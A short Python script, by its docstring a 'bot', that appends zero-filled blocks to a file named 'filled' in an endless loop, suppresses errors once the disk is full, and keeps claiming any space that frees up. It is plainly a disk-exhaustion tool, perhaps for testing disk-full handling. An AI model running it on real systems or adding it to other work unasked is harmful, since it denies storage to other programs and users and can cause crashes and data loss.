"""A bot that writes and prints until the disk is full, and takes what becomes free."""

import contextlib
import time

while True:
    with contextlib.suppress(OSError), open("filled", "ab", buffering=0) as file:
        while True:
            file.write(bytes(2**16))
    with contextlib.suppress(OSError):
        print("x" * 100, flush=True)
    time.sleep(0.001)
